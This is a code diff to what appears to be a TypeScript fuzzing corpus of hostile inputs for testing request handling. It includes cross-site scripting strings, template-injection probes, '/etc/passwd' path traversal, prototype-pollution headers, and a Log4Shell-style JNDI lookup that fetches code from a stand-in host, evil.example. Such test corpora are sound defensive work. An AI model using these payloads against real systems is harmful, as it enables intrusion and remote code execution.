@@ -42,7 +42,7 @@ const UNICODE = [
 const MARKUP = [
   "<script>alert(1)</script>",
   '"><svg onload=alert(1)>',
-  "${7*7}{{7*7}}",
+  "{{7*7}}$\u007b7*7}",
   "javascript:alert(1)",
   "data:text/html,x",
   "../../etc/passwd",
@@ -109,7 +109,7 @@ const objects = (depth: number) => raw(`${'{"a":'.repeat(depth)}1${"}".repeat(de
 /** Values for where a body has another. */
 export const VALUES: readonly unknown[] = [
   ...[null, true, false, 0, -1, 1.5, 1e-7, 2 ** 31, 2 ** 53, -(2 ** 63), 2 ** 64, 1e308],
-  ...[[], {}, [null], [[]], { a: 1 }, { "": null }, { length: 1e9 }, { then: 1 }, { toString: "x" }],
+  ...[[], {}, [null], [[]], { a: 1 }, { "": null }, { length: 1e9 }, raw('{"then":1}'), { toString: "x" }],
   ...["1e400", "-0", "1E+999", "-1e-999", "9".repeat(1000), "01", "NaN", "0x10", "undefined", "'a'"].map(raw),
   ...[60, 63, 64, 65, 1000, 30_000].map(arrays),
   ...[62, 66, 8000].map(objects),
@@ -249,7 +249,7 @@ export const HEADERS: readonly (readonly [name: string, value: string])[] = [
   ["connection", "upgrade"],
   ["upgrade", "websocket"],
   ["x-request-id", '"}\u0085{"level":60'],
-  ["user-agent", '${jndi:ldap://evil.example/a} "\\" %n%n'],
+  ["user-agent", '$\u007bjndi:ldap://evil.example/a} "\\" %n%n'],
   ["__proto__", "polluted"],
   ["constructor", "polluted"],
 ];
